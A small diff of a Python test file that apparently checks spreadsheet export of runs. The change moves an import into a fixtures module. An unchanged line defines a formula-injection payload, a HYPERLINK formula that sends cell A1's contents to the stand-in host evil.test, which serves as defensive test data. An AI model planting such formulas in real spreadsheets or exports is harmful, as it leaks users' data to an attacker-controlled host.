@@ -13,7 +13,7 @@ from cadence_client.spreadsheet import cell_from_text, text_from_cell
 from fastapi.testclient import TestClient
 
 from tests.fixtures.builders import make_run
-from tests.reporting.test_commands import export
+from tests.fixtures.client import export
 
 HOSTILE_RUN_ID = '=HYPERLINK("http://evil.test/?"&A1,"open")'
 
